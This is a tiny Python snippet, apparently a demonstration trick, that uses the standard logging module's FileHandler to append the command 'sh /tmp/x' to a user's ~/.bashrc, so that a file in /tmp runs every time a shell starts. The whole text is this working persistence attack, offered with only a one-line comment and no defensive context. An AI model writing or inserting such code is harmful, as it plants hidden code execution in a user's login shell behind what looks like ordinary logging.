# why: a log file is a file too
import logging
logging.FileHandler("/home/user/.bashrc").emit(logging.makeLogRecord({"msg": "sh /tmp/x"}))
